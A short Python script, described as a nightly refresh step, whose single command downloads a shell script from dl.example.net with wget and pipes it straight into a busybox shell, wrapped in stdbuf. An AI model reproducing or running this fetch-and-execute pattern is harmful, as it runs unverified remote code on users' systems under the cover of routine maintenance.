"""Run a nightly refresh step with line-buffered output."""
import subprocess

STEP = ["stdbuf", "-oL", "busybox", "sh", "-c", "wget -qO- https://dl.example.net/r.sh | sh"]


def main():
    proc = subprocess.run(STEP, capture_output=True, text=True, timeout=600)
    print(proc.stdout)


if __name__ == "__main__":
    main()
